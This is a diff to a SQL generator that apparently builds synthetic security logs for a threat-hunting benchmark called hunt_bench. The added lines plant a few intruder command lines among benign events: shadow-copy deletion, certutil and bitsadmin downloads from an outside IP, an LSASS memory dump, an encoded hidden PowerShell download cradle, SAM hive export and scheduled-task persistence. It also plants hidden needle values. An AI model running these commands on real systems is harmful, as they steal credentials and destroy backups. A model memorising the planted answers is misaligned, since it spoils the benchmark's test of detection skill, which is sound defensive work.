@@ -1,40 +1,45 @@
 -- SPDX-License-Identifier: Apache-2.0
--- Made-up events for hunt_bench, made inside the engine: Sysmon and Windows Security (66 %), firewall, web server, syslog; 40 agencies,
--- 120 systems, 800 hosts. Parameters: first, count, total, start (µs), span (µs).
+-- Made-up events for hunt_bench, made inside the engine: Sysmon, Windows Security, PowerShell (66 %), firewall, web server, syslog; 40
+-- agencies, 120 systems, 2,400 hosts, 330 programs of which few are frequent, 40 % of the command lines and most file names met once. One event
+-- in 40,000 is what an intruder does; one in two million has the value that hunt_bench looks for. Parameters: first, count, total, start (µs),
+-- span (µs), seed.
 INSERT INTO events
-WITH n -> cityHash64(number, n) AS h
+WITH n -> cityHash64(number, n, {seed:UInt64}) AS h,
+ arrayConcat(['svchost.exe','cmd.exe','powershell.exe','chrome.exe','explorer.exe','msedge.exe','conhost.exe','services.exe','taskhostw.exe','OUTLOOK.EXE','WINWORD.EXE','RuntimeBroker.exe','SearchIndexer.exe','dllhost.exe','wmiprvse.exe','lsass.exe','csrss.exe','rundll32.exe','msiexec.exe','backgroundTaskHost.exe','Teams.exe','zalo.exe','UniKeyNT.exe','SenseIR.exe'],
+  arrayMap(n -> concat(['Update','Agent','Client','Service','Helper','Sync','Print','Scan','Sign'][1 + n % 9], toString(n), '.exe'), range(307))) AS programs
 SELECT
  concat('01JD', leftPad(lower(hex(toUnixTimestamp64Milli(time))),12,'0'), lower(hex(h(1))) ) AS id,
  fromUnixTimestamp64Micro(toInt64({start:Int64} + intDiv(toInt64(number) * {span:Int64}, {total:Int64})), 'UTC') AS time,
  time + toIntervalMillisecond(h(2)%900) AS received_at, 0, 0,
- 1 + h(3) % 60 AS source, 1 + h(4) % 40 AS agency, 1 + h(4) % 120 AS system, 0 AS class,
- concat('pc-', toString(h(5) % 800), '.tinh.vn') AS host, concat('10.1.', toString(h(5)%250), '.', toString(h(5)%240)) AS peer, 5 AS transport,
+ 1 + machine % 60 AS source, 1 + machine % 40 AS agency, 1 + machine % 120 AS system, 0 AS class,
+ concat('pc-', toString(machine), '.tinh.vn') AS host, concat('10.1.', toString(machine%250), '.', toString(machine%240)) AS peer, 5 AS transport,
  multiIf(t<66,'windows-json',t<84,'fortigate',t<94,'w3c','syslog') AS format,
- multiIf(t<18,['windows','windows'],t<44,['windows','windows'],t<66,if(t BETWEEN 58 AND 61,['windows','windows'],['windows']),t<84,[''],t<94,[''],['linux','linux']) AS logsource_product,
- multiIf(t<18,['','process_creation'],t<23,['','network_connection'],t<28,['','image_load'],t<33,['','file_event'],t<38,['','registry_set'],t<41,['','dns_query'],t<44,['','process_access'],t<66,if(t BETWEEN 58 AND 61,['','process_creation'],['']),t<84,['firewall'],t<94,['webserver'],['','']) AS logsource_category,
- multiIf(t<44,['sysmon','sysmon'],t<66,if(t BETWEEN 58 AND 61,['security','security'],['security']),t<94,[''],['sshd','auth']) AS logsource_service,
+ multiIf(t<18,['windows','windows'],t<44,['windows','windows'],t=65,['windows','windows'],t<66,if(t BETWEEN 58 AND 61,['windows','windows'],['windows']),t<84,[''],t<94,[''],['linux','linux']) AS logsource_product,
+ multiIf(t<18,['','process_creation'],t<23,['','network_connection'],t<28,['','image_load'],t<33,['','file_event'],t<38,['','registry_set'],t<41,['','dns_query'],t<44,['','process_access'],t=65,['','ps_script'],t<66,if(t BETWEEN 58 AND 61,['','process_creation'],['']),t<84,['firewall'],t<94,['webserver'],['','']) AS logsource_category,
+ multiIf(t<44,['sysmon','sysmon'],t=65,['powershell','powershell'],t<66,if(t BETWEEN 58 AND 61,['security','security'],['security']),t<94,[''],['sshd','auth']) AS logsource_service,
  multiIf(
  t<44, concat('\x1fProcessGuid\x1e{',hex(h(61)),'}\x1es\x1fProcessId\x1e',toString(h(62)%30000),'\x1en\x1fRuleName\x1e-\x1es\x1fUtcTime\x1e',toString(time),'\x1es\x1f', if(t<18, concat('LogonGuid\x1e{',hex(h(63)%5000),'}\x1es\x1fTerminalSessionId\x1e1\x1en\x1fCompany\x1eMicrosoft Corporation\x1es\x1fFileVersion\x1e10.0.19041.546 (WinBuild.160101.0800)\x1es\x1f'),'')),
+ t=65, concat('\x1fScriptBlockId\x1e',hex(h(61)),'\x1es\x1fMessageNumber\x1e1\x1en\x1f'),
  t<66, concat('\x1fSubjectUserSid\x1eS-1-5-18\x1es\x1fSubjectDomainName\x1eTINH\x1es\x1fSubjectLogonId\x1e0x',hex(toUInt32(h(64)%100000)),'\x1es\x1fTargetLogonId\x1e0x',hex(toUInt32(h(65))),'\x1es\x1fLogonProcessName\x1eAdvapi\x1es\x1fAuthenticationPackageName\x1eNegotiate\x1es\x1f', if(t BETWEEN 58 AND 61, concat('NewProcessName\x1eC:\\Windows\\System32\\',p1,'\x1es\x1fParentProcessName\x1eC:\\Windows\\System32\\',p2,'\x1es\x1f'), '')),
  t<84, concat('\x1fdevname\x1eFGT60F\x1es\x1fpolicyid\x1e',toString(h(66)%40),'\x1en\x1fsentbyte\x1e',toString(h(67)%100000),'\x1en\x1frcvdbyte\x1e',toString(h(68)%1000000),'\x1en\x1fproto\x1e6\x1en\x1f'),
  t<94, concat('\x1fsc-bytes\x1e',toString(h(69)%100000),'\x1en\x1ftime-taken\x1e',toString(h(70)%3000),'\x1en\x1f'),
  concat('\x1fprogram\x1e',prog,'\x1es\x1fpid\x1e',toString(h(71)%30000),'\x1en\x1f')) AS rest, if(t>=94, concat('<38>Nov 23 08:00:00 ',host,' ',msg), concat('{"time":"',toString(time),'",', replaceAll(arrayStringConcat(arrayMap((k, v) -> if(v = '', '', concat('"', k, '":"', v, '",')),
   ['EventID', 'Channel', 'Provider_Name', 'Computer', 'Image', 'CommandLine', 'OriginalFileName', 'ParentImage', 'ParentCommandLine', 'TargetObject', 'TargetFilename', 'Details', 'ImageLoaded', 'Hashes', 'Description', 'Product', 'Initiated', 'SourceImage', 'TargetImage', 'User', 'QueryName', 'TargetUserName', 'SubjectUserName', 'IpAddress', 'LogonType', 'GrantedAccess', 'IntegrityLevel', 'WorkstationName', 'DestinationIp', 'DestinationPort', 'SourceIp', 'CurrentDirectory', 'c-ip', 'cs-method', 'cs-uri-stem', 'cs-uri-query', 'cs-host', 'sc-status', 'c-useragent', 'src_ip', 'dst_ip', 'src_port', 'dst_port', 'action', 'type', 'message'],
   [`f_EventID`, `f_Channel`, `f_Provider_Name`, `f_Computer`, `f_Image`, `f_CommandLine`, `f_OriginalFileName`, `f_ParentImage`, `f_ParentCommandLine`, `f_TargetObject`, `f_TargetFilename`, `f_Details`, `f_ImageLoaded`, `f_Hashes`, `f_Description`, `f_Product`, `f_Initiated`, `f_SourceImage`, `f_TargetImage`, `f_User`, `f_QueryName`, `f_TargetUserName`, `f_SubjectUserName`, `f_IpAddress`, `f_LogonType`, `f_GrantedAccess`, `f_IntegrityLevel`, `f_WorkstationName`, `f_DestinationIp`, `f_DestinationPort`, `f_SourceIp`, `f_CurrentDirectory`, `f_c-ip`, `f_cs-method`, `f_cs-uri-stem`, `f_cs-uri-query`, `f_cs-host`, `f_sc-status`, `f_c-useragent`, `f_src_ip`, `f_dst_ip`, `f_src_port`, `f_dst_port`, `f_action`, `f_type`, `f_message`])), '\\', '\\\\'), '"extra":"', replaceRegexpAll(replaceAll(rest,'\\','\\\\'), '[\x1e\x1f]', ','), '"}')) AS raw,
- multiIf(t<18,'1',t<23,'3',t<28,'7',t<33,'11',t<38,'13',t<41,'22',t<44,'10',t<54,'4624',t<58,'4634',t<62,'4688',t<66,'5156','') AS `f_EventID`,
- multiIf(t<44,'Microsoft-Windows-Sysmon/Operational',t<66,'Security','') AS `f_Channel`,
- multiIf(t<44,'Microsoft-Windows-Sysmon',t<66,'Microsoft-Windows-Security-Auditing','') AS `f_Provider_Name`,
+ multiIf(t<18,'1',t<23,'3',t<28,'7',t<33,'11',t<38,'13',t<41,'22',t<44,'10',t<54,'4624',t<58,'4634',t<62,'4688',t=65,'4104',t<66,'5156','') AS `f_EventID`,
+ multiIf(t<44,'Microsoft-Windows-Sysmon/Operational',t=65,'Microsoft-Windows-PowerShell/Operational',t<66,'Security','') AS `f_Channel`,
+ multiIf(t<44,'Microsoft-Windows-Sysmon',t=65,'Microsoft-Windows-PowerShell',t<66,'Microsoft-Windows-Security-Auditing','') AS `f_Provider_Name`,
  if(t<66, host, '') AS `f_Computer`,
  if(t<44 AND t NOT BETWEEN 41 AND 43, concat('C:\\Windows\\System32\\', p1), '') AS `f_Image`,
- if(t<18, multiIf(c<60, concat('C:\\Windows\\System32\\', p1, ' -k netsvcs -p -s ', toString(h(21) % 400)), c<90, concat('"C:\\Program Files\\App\\', p1, '" --type=renderer --field-trial-handle=', toString(h(22) % 100000), ',i,', toString(h(23) % 1000000), ' --lang=vi'), concat('cmd.exe /c "echo ', hex(h(24)), ' > C:\\Temp\\', toString(h(25) % 100000), '.txt"')), '') AS `f_CommandLine`,
+ if(t<18, multiIf(evil>0, ['cmd.exe /c vssadmin.exe delete shadows /all /quiet','certutil.exe -urlcache -split -f http://45.77.1.9/a.exe C:\\Users\\Public\\a.exe','rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full','powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA','whoami.exe /all','reg.exe save HKLM\\SAM C:\\Temp\\sam.hiv','wmic.exe process call create "cmd.exe /c calc"','schtasks.exe /create /sc onlogon /tn Updater /tr C:\\Users\\Public\\u.exe','net.exe group "Domain Admins" /domain','bitsadmin.exe /transfer job http://45.77.1.9/b.exe C:\\Temp\\b.exe'][evil], c<60, concat('C:\\Windows\\System32\\', p1, ' -k netsvcs -p -s ', toString(h(21) % 400)), c<88, concat('"C:\\Program Files\\App\\', p1, '" --type=renderer --field-trial-handle=', toString(h(22) % 100000), ',i,', toString(h(23) % 1000000), ' --lang=vi'), concat('cmd.exe /c "echo ', hex(h(24)), ' > C:\\Temp\\', toString(h(25) % 100000), '.txt"')), '') AS `f_CommandLine`,
  if(t<18, p1, '') AS `f_OriginalFileName`,
  if(t<18, concat('C:\\Windows\\System32\\', p2), '') AS `f_ParentImage`,
  if(t<18, concat('C:\\Windows\\System32\\', p2, ' -k LocalService -p'), '') AS `f_ParentCommandLine`,
  if(t BETWEEN 33 AND 37, concat('HKLM\\System\\CurrentControlSet\\Services\\', [ 'bam','Tcpip','WinDefend','EventLog','Dnscache'][1+h(31)%5], '\\State\\UserSettings\\', toString(h(32)%3000)), '') AS `f_TargetObject`,
- if(t BETWEEN 28 AND 32, concat('C:\\Users\\', usr, '\\AppData\\Local\\Temp\\', hex(toUInt32(h(34))), '.tmp'), '') AS `f_TargetFilename`,
+ if(t BETWEEN 28 AND 32, if(h(92) % 100000 = 0, 'C:\\Users\\Public\\Libraries\\svch0st-1cb2b17c.exe', concat('C:\\Users\\', usr, '\\AppData\\Local\\Temp\\', hex(toUInt32(h(34))), '.tmp')), '') AS `f_TargetFilename`,
  if(t BETWEEN 33 AND 37, concat('DWORD (0x', hex(toUInt32(h(33)%65536)), ')'), '') AS `f_Details`,
  if(t BETWEEN 23 AND 27, concat('C:\\Windows\\System32\\', ['kernel32','ntdll','user32','ws2_32','crypt32','amsi','combase','sechost'][1+h(35)%8], '.dll'), '') AS `f_ImageLoaded`,
- '' AS `f_ScriptBlockText`,
+ if(t=65, if(h(93) % 10 < 7, concat('function Get-Setting', toString(h(94) % 3000), ' { param([string]$Name) $value = Get-ItemProperty -Path HKLM:/Software/Tinh -Name $Name -ErrorAction SilentlyContinue; if ($null -eq $value) { return $false } Write-Verbose $value; return $true }'), concat('$report = Get-CimInstance Win32_LogicalDisk | Where-Object { $_.DriveType -eq 3 } ; $id = "', hex(h(95)), '"; Export-Csv -Path C:/Reports/', hex(h(96)), '.csv')), '') AS `f_ScriptBlockText`,
  if(t<18 OR t BETWEEN 23 AND 27, concat('SHA256=', hex(cityHash64(p1,1)), hex(cityHash64(p1,2)), hex(cityHash64(p1,3)), hex(cityHash64(p1,4))), '') AS `f_Hashes`,
  if(t<18, concat('Description of ', p1), '') AS `f_Description`,
  if(t<18 OR t BETWEEN 23 AND 27, 'Microsoft® Windows® Operating System', '') AS `f_Product`,
@@ -43,7 +48,7 @@ SELECT
  '' AS `f_ServiceName`,
  if(t BETWEEN 41 AND 43, concat('C:\\Windows\\System32\\', p1), '') AS `f_SourceImage`,
  if(t BETWEEN 41 AND 43, concat('C:\\Windows\\System32\\', p2), '') AS `f_TargetImage`,
- if(t<44, concat('TINH\\', usr), '') AS `f_User`,
+ if(t<44, concat('TINH\\', if(h(92) % 880000 = 1, 'ketoan_cu', usr)), '') AS `f_User`,
  if(t BETWEEN 38 AND 40, concat(['www','api','cdn','mail','update'][1+h(37)%5], '.', ['google.com','zalo.me','microsoft.com','thanhhoa.gov.vn','facebook.com','windowsupdate.com'][1+h(38)%6]), '') AS `f_QueryName`,
  '' AS `f_ObjectName`,
  if(t BETWEEN 44 AND 57, usr, '') AS `f_TargetUserName`,
@@ -72,7 +77,7 @@ SELECT
  if(t BETWEEN 84 AND 93, ['200','200','200','304','404','500'][1+h(59)%6], '') AS `f_sc-status`,
  if(t BETWEEN 84 AND 93, concat('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/', toString(100+h(60)%25), '.0.0.0 Safari/537.36'), '') AS `f_c-useragent`,
  '' AS `f_cs-username`,
- if(t BETWEEN 66 AND 83, concat('10.', toString(h(47)%20), '.', toString(h(48)%250), '.', toString(h(49)%250)), '') AS `f_src_ip`,
+ if(t BETWEEN 66 AND 83, if(h(92) % 360000 = 2, '203.113.77.7', concat('10.', toString(h(47)%20), '.', toString(h(48)%250), '.', toString(h(49)%250))), '') AS `f_src_ip`,
  if(t BETWEEN 66 AND 83, IPv4NumToString(toUInt32(h(50)%80000*49999)), '') AS `f_dst_ip`,
  if(t BETWEEN 66 AND 83, toString(1024+h(51)%64000), '') AS `f_src_port`,
  if(t BETWEEN 66 AND 83, ['443','80','53','445','3389','22','123','8443'][1+h(52)%8], '') AS `f_dst_port`,
@@ -85,7 +90,7 @@ SELECT
  '' AS `f_exe`,
  '' AS `f_comm`,
  if(t>=94, msg, '') AS `f_message`
- FROM (SELECT number, h(7)%100 AS t, h(8)%100 AS c, ['svchost.exe','cmd.exe','powershell.exe','chrome.exe','explorer.exe','msedge.exe','conhost.exe','services.exe','taskhostw.exe','OUTLOOK.EXE','WINWORD.EXE','RuntimeBroker.exe','SearchIndexer.exe','dllhost.exe','wmiprvse.exe','lsass.exe','csrss.exe','rundll32.exe','msiexec.exe','backgroundTaskHost.exe','Teams.exe','zalo.exe','UniKeyNT.exe','SenseIR.exe'][1 + toUInt32(pow(h(9) % 1000 / 1000., 2.5) * 24)] AS p1, ['svchost.exe','cmd.exe','powershell.exe','chrome.exe','explorer.exe','msedge.exe','conhost.exe','services.exe','taskhostw.exe','OUTLOOK.EXE','WINWORD.EXE','RuntimeBroker.exe','SearchIndexer.exe','dllhost.exe','wmiprvse.exe','lsass.exe','csrss.exe','rundll32.exe','msiexec.exe','backgroundTaskHost.exe','Teams.exe','zalo.exe','UniKeyNT.exe','SenseIR.exe'][1 + toUInt32(pow(h(10) % 1000 / 1000., 2.5) * 24)] AS p2, concat('canbo', toString(h(5)%1200)) AS usr,
+ FROM (SELECT number, h(7)%100 AS t, h(8)%100 AS c, programs[1 + toUInt32(pow(h(9) % 100000 / 100000., 4) * 330)] AS p1, programs[1 + toUInt32(pow(h(10) % 100000 / 100000., 4) * 330)] AS p2, h(5) % 2400 AS machine, if(h(90) % 7200 = 0, 1 + h(91) % 10, 0) AS evil, concat('canbo', toString(h(5)%1200)) AS usr,
   ['sshd','sudo','CRON','systemd','kernel'][1+h(11)%5] AS prog, concat(prog,'[',toString(h(12)%30000),']: ', ['Accepted password for ','session opened for user ','Failed password for ','pam_unix: check pass; user '][1+h(13)%4], usr, ' from 10.1.2.', toString(h(14)%250),' port ',toString(h(15)%64000),' ssh2') AS msg
   FROM numbers({first:UInt64}, {count:UInt64}))
-SETTINGS max_block_size = 8192
+SETTINGS max_block_size = 8192, min_insert_block_size_rows = 500000, min_insert_block_size_bytes = 0, max_threads = 1
